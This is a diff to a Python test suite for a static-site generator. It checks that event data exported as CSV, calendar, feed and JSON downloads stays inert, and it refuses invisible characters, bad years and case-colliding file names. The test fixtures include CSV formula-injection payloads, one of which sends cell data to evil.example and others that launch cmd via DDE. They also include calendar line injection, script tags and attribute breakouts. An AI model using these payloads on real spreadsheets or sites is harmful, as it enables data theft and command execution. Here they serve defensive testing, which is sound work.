@@ -105,6 +105,30 @@ BREAKOUT = (
     "and angle brackets must be percent-encoded"
 )
 
+
+def control(code: str, kind: str = "control character") -> str:
+    return f"holds the {kind} {code}: remove it"
+
+
+def invisible(code: str) -> str:
+    return (
+        f"holds the invisible character {code}: names, titles and claimants may not hold "
+        "invisible or direction-changing characters, which make one name look like another: "
+        "remove it"
+    )
+
+
+def year(value: str) -> str:
+    return f"{value!r}: the year must be from 1000 to 2999"
+
+
+def same_file(path: str, other: str, at: str) -> str:
+    return (
+        f"is published at {path}, the same file as content/{other} (at {at}) where case and "
+        "Unicode normalisation are ignored (macOS, Windows, many CDNs): rename one of them"
+    )
+
+
 # Refused attacks: the file, then every error it gives as (line, field, message).
 REFUSED: dict[str, list[tuple[int, str, str]]] = {
     "events/body-script-tag.md": [(12, "body", tag("script"))],
@@ -203,6 +227,51 @@ REFUSED: dict[str, list[tuple[int, str, str]]] = {
     "schema/event.json.md": [(1, "file", needs_folder("schema/event.json"))],
     "sitemap.xml.md": [(1, "file", needs_folder("sitemap.xml"))],
     "search/search_index.json.md": [(1, "file", THEME_FOLDER)],
+    # Text fields hold no control character or non-character (YAML escapes can write
+    # them); names, titles and claimants no invisible or direction-changing character.
+    "events/title-escape-control.md": [
+        (2, "title", control("U+001B")),
+        (3, "summary", control("U+0007")),
+    ],
+    "events/title-carriage-return.md": [
+        (2, "title", control("U+000D")),
+        (3, "summary", control("U+2028 (LINE SEPARATOR)")),
+    ],
+    "events/summary-noncharacter.md": [
+        (3, "summary", control("U+FFFE", "non-character")),
+        (4, "date_note", control("U+0085")),
+    ],
+    "events/claimant-bidi-override.md": [
+        (10, "claims[0].about", invisible("U+2066 (LEFT-TO-RIGHT ISOLATE)")),
+        (11, "claims[0].by", invisible("U+202E (RIGHT-TO-LEFT OVERRIDE)")),
+    ],
+    "events/claimant-zero-width.md": [
+        (2, "title", invisible("U+2060 (WORD JOINER)")),
+        (11, "claims[0].by", invisible("U+200B (ZERO WIDTH SPACE)")),
+    ],
+    "actors/name-byte-order-mark.md": [
+        (2, "name", invisible("U+FEFF (ZERO WIDTH NO-BREAK SPACE)")),
+        (3, "aliases[1]", invisible("U+202B (RIGHT-TO-LEFT EMBEDDING)")),
+    ],
+    # Every date the check accepts can be built: years outside the range are refused.
+    "events/date-year-zero.md": [(4, "date", year("0000"))],
+    "events/date-year-9999.md": [(4, "date", year("9999-12"))],
+    "events/date-end-9999.md": [(5, "end", year("9999-12-31"))],
+    "sources/date-year-999.md": [
+        (
+            4,
+            "date",
+            (
+                "'999' is not a date: use YYYY-MM-DD, YYYY-MM or YYYY, or 'before' or 'after' one "
+                "of them"
+            ),
+        )
+    ],
+    # Output paths are compared as case-insensitive hosts compare them.
+    "About.md": [
+        (1, "file", same_file("About/index.html", "about.md", "about/index.html")),
+        (1, "file", same_file("about/index.html", "About.md", "About/index.html"), "about.md"),
+    ],
     # A link to a heading of contributor text must find it.
     "page-link-to-missing-anchor.md": [
         (5, "body", "links to #disputes in about.md: the heading's id is #text-disputes"),
@@ -343,6 +412,28 @@ ACCEPTED: dict[str, list[tuple[str, str]]] = {
     ],
     "page-file-name-title.md": [
         ("page-file-name-title/", "No heading and no title: the title comes from the file name."),
+    ],
+    # Downloads: formulas, line breaks and separators stay text in every format.
+    "events/claim-csv-formula.md": [
+        (
+            "events/claim-csv-formula/",
+            '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")',
+        ),
+        ("events/claim-csv-formula/", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ],
+    "events/title-ics-line-break.md": [
+        (
+            "events/title-ics-line-break/",
+            "Ambush END:VEVENT BEGIN:VEVENT UID:fake@evil.example SUMMARY:Fake event",
+        ),
+    ],
+    # Look-alikes are a reviewer's warning; scripts keep their joiners and marks.
+    "events/claimant-lookalike-cyrillic.md": [
+        ("events/claimant-lookalike-cyrillic/", "N\u0430ti\u043en\u0430l \u0410rmy"),
+    ],
+    "locations/name-persian-arabic-joiners.md": [
+        ("locations/name-persian-arabic-joiners/", "\u0645\u06cc\u200c\u062e\u0627\u0646\u0647"),
+        ("locations/name-persian-arabic-joiners/", "\u0644\u0627\u200d\u0644\u0627"),
     ],
     "locations/name-attribute-breakout.md": [
         ("locations/name-attribute-breakout/", '" onmouseover="alert(1)'),
@@ -844,6 +935,16 @@ STALLS = {  # body, the line of the problem, its message
     ),
     "repeated-headings": ("# Same\n" * 1_200, 1_010, "has more than 1,000 headings"),
     "setext-headings": ("Same\n====\n" * 1_200, 2_011, "has more than 1,000 headings"),
+    # Headings in blockquotes and list items are numbered as any other.
+    "blockquote-headings": ("> # h\n" * 16_000, 1_010, "has more than 1,000 headings"),
+    "list-item-headings": ("- # h\n" * 16_000, 1_010, "has more than 1,000 headings"),
+    "nested-container-headings": ("1. > - # h\n" * 9_000, 1_010, "has more than 1,000 headings"),
+    "blockquote-setext-headings": ("> h\n> ==\n" * 8_000, 2_011, "has more than 1,000 headings"),
+    "nested-blockquotes": (
+        "> " * 40_000,
+        10,
+        "is nested too deeply for Markdown (emphasis, quotes or lists)",
+    ),
     "mixed-headings": (
         "Same\n----\n   ## Indented\n" * 600,
         1_511,
@@ -1065,3 +1166,183 @@ def test_page_front_matter_of_the_allowed_keys_is_published(tmp_path):
     assert out.markdown.startswith(
         "---\ndescription: Working notes.\nhide:\n- toc\n- navigation\ntitle: Notes\n---\n"
     )
+
+
+# --- downloads, read by the programs that open them ----------------------------------------
+
+FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
+
+
+def _records(hostile_site: Path) -> dict:
+    import json
+
+    return json.loads((hostile_site / "data/events.json").read_text("utf-8"))
+
+
+@pytest.mark.parametrize("name", ["events.csv", "claims.csv"])
+def test_no_cell_of_a_csv_download_starts_a_formula(hostile_site, name):
+    import csv
+
+    import pandas
+
+    path = hostile_site / "data" / name
+    rows = list(csv.reader(path.read_text("utf-8").splitlines()))
+    records = _records(hostile_site)["events"]
+    expected = len(records) if name == "events.csv" else sum(len(e["claims"]) for e in records)
+    assert len(rows) == 1 + expected  # no value added a record
+    assert {len(row) for row in rows} == {len(rows[0])}
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c.startswith(FORMULA) and not NUMBER.match(c)] == []
+    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
+    assert frame.shape == (expected, len(rows[0]))
+    assert frame.values.tolist() == rows[1:]
+
+
+def test_formulas_stay_readable_text_in_claims_csv(hostile_site):
+    import pandas
+
+    frame = pandas.read_csv(hostile_site / "data/claims.csv", dtype=str, keep_default_na=False)
+    rows = frame[frame["event_id"] == "claim-csv-formula"].to_dict("records")
+    assert [(r["claimant"], r["about"], r["says"], r["of"]) for r in rows] == [
+        (
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'+cmd|' /C calc'!A0",
+            '\'=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")',
+            "'-2+3+cmd|' /C calc'!A0",
+        ),
+        ("army", "'+cmd|' /C calc'!A0", "'-1+1 was said first", "'-2+3+cmd|' /C calc'!A0"),
+    ]
+    events = pandas.read_csv(hostile_site / "data/events.csv", dtype=str, keep_default_na=False)
+    (row,) = events[events["event_id"] == "claim-csv-formula"].to_dict("records")
+    assert row["sub_event_type"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Armed clash")'
+    assert float(events["longitude"].iloc[0]) == pytest.approx(float(events["longitude"][0]))
+
+
+def test_no_value_adds_a_calendar_property_or_event(hostile_site):
+    import icalendar
+
+    text = (hostile_site / "data/events.ics").read_bytes().decode("utf-8")
+    calendar = icalendar.Calendar.from_ical(text)
+    events = calendar.walk("VEVENT")
+    records = _records(hostile_site)["events"]
+    assert len(events) == len(records)
+    lines = text.split("\r\n")
+    assert lines.count("BEGIN:VEVENT") == len(records)
+    assert [line for line in lines if line.startswith("UID:")] == [
+        f"UID:{r['id']}@chronicle.test" for r in records
+    ]
+    assert {str(e["UID"]).split("@")[0] for e in events} == {r["id"] for r in records}
+    (event,) = [e for e in events if str(e["UID"]).startswith("title-ics-line-break@")]
+    record = next(r for r in records if r["id"] == "title-ics-line-break")
+    assert str(event["SUMMARY"]) == record["title"]
+    assert str(event["DESCRIPTION"]).startswith(record["summary"] + "\n\nDate: ")
+    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
+
+
+def test_the_feed_is_well_formed_xml_for_feed_readers(hostile_site):
+    import xml.etree.ElementTree as ET
+
+    import feedparser
+
+    text = (hostile_site / "feed.xml").read_text("utf-8")
+    ET.fromstring(text.encode("utf-8"))
+    feed = feedparser.parse(text)
+    assert not feed.bozo, feed.get("bozo_exception")
+    titles = [e.title for e in feed.entries]
+    assert "Ambush\nEND:VEVENT\nBEGIN:VEVENT\nUID:fake@evil.example\nSUMMARY:Fake event" in titles
+    assert '<script>alert("title")</script> Battle at the ford' in titles
+
+
+def test_the_json_downloads_hold_the_values_as_given(hostile_site):
+    import json
+
+    for name in ("events.json", "events.geojson"):
+        json.loads((hostile_site / "data" / name).read_text("utf-8"))
+    (claim, _) = next(
+        e for e in _records(hostile_site)["events"] if e["id"] == "claim-csv-formula"
+    )["claims"]
+    assert claim["says"] == '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")'
+
+
+def test_a_claimant_that_looks_like_an_actor_is_a_warning(tmp_path):
+    content = _content_with(tmp_path, "events/claimant-lookalike-cyrillic.md")
+    chronicle = build_chronicle(content, display="content")
+    rel = "content/events/claimant-lookalike-cyrillic.md"
+    assert [str(w) for w in chronicle.warnings if w.path == rel] == [
+        (
+            f"{rel}:11: claims[0].by: warning: 'N\u0430ti\u043en\u0430l \u0410rmy' looks like "
+            "the actor 'National Army': give its id 'army' if it is meant, or name the claimant "
+            "so it cannot be taken for it"
+        )
+    ]
+
+
+@pytest.mark.parametrize(
+    ("claimant", "actor"),
+    [
+        ("\uff2e\uff21", "National Army"),  # full-width NA, an alias
+        ("\u0410\u0440\u043c\u0456\u044f", "National Army"),  # the alias itself, typed as words
+        ("Nati0nal Arrny", "National Army"),  # a zero and 'rn' for 'm'
+        ("R\u0435b\u0435ls", "Rebels"),  # Cyrillic e
+        ("army", None),  # the id: the actor itself, no warning
+        ("A local official", None),
+    ],
+)
+def test_lookalike_folding(claimant, actor):
+    from generator.content.lookalike import lookalike, skeleton
+
+    names = {skeleton(n): n for n in ("National Army", "NA", "\u0410\u0440\u043c\u0456\u044f")}
+    names[skeleton("Rebels")] = "Rebels"
+    found = lookalike(claimant, names) if not ID_RE_FULL.match(claimant) else None
+    assert {"NA": "National Army", "\u0410\u0440\u043c\u0456\u044f": "National Army"}.get(
+        found, found
+    ) == actor
+
+
+ID_RE_FULL = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*\Z")
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ("notes/About.md", "notes/about.md"),
+        ("caf\u00e9.md", "cafe\u0301.md"),  # NFC and NFD
+        ("STRASSE.md", "stra\u00dfe.md"),  # case folding, not lowering
+    ],
+)
+def test_pages_that_are_one_file_on_case_insensitive_hosts_are_refused(tmp_path, first, second):
+    import unicodedata as ud
+
+    content = _content_with(tmp_path)
+    for rel in (first, second):
+        (content / rel).parent.mkdir(parents=True, exist_ok=True)
+        (content / rel).write_text("# A page\n", encoding="utf-8")
+    if (
+        len(
+            {p.name for p in (content / first).parent.iterdir()}
+            & {Path(first).name, Path(second).name}
+        )
+        < 2
+    ):
+        pytest.skip("this file system already stores the two names as one file")
+    errors = _errors(content)
+    at = {rel: rel[:-3] + "/index.html" for rel in (first, second)}
+    expected = [
+        f"content/{a}:1: file: {same_file(at[a], b, at[b])}"
+        for a, b in ((first, second), (second, first))
+    ]
+    assert sorted(errors) == sorted(expected)
+    assert ud.normalize("NFC", first) != ud.normalize("NFC", second) or first != second
+
+
+def test_a_page_on_an_entry_page_where_case_is_ignored_is_refused(tmp_path):
+    content = _content_with(tmp_path)
+    (content / "Actors").mkdir()
+    (content / "Actors" / "army.md").write_text("# The army, again\n", encoding="utf-8")
+    if (content / "actors" / "army.md").read_text("utf-8") == "# The army, again\n":
+        pytest.skip("this file system ignores case")
+    assert _errors(content) == [
+        "content/Actors/army.md:1: file: "
+        + same_file("Actors/army/index.html", "actors/army.md", "actors/army/index.html")
+    ]
